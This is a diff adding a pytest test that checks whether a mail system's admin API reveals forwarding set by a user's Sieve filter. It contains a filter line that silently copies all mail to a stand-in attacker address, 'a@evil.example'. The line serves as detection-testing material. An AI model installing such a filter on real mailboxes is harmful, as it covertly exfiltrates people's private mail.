@@ -215,6 +215,15 @@ def test_what_is_connected_ends(newer: MailSystem, staff: Mailbox, address: str)
 
 
 @pytest.mark.usefixtures("told")
+def test_where_a_filter_sends_mail_on_is_told(newer: MailSystem, staff: Mailbox) -> None:
+    with sieve(newer, staff.address, f"{WAY}sieve") as connection:
+        assert enter_sieve(connection, staff.name, staff.app_password) == IN
+        put_filter(connection, 'require "copy";\r\nredirect :copy "a@evil.example";\r\n')
+    assert dovecot.forwards(newer.doveadm_url(f"{WAY}doveadm"), staff.name) == ["a@evil.example"]
+    assert dovecot.forwards(newer.doveadm_url(f"{WAY}doveadm"), Mailbox(newer, at=WAY).name) == [], "who has no filter"
+
+
+@pytest.mark.usefixtures("told")
 def test_the_key_opens_nobodys_mail(newer: MailSystem, staff: Mailbox) -> None:
     fetch = {"user": staff.name, "field": ["text"], "query": ["ALL"]}
     for command, parameters in (("fetch", fetch), ("reload", {}), ("mailboxDelete", {"user": staff.name})):
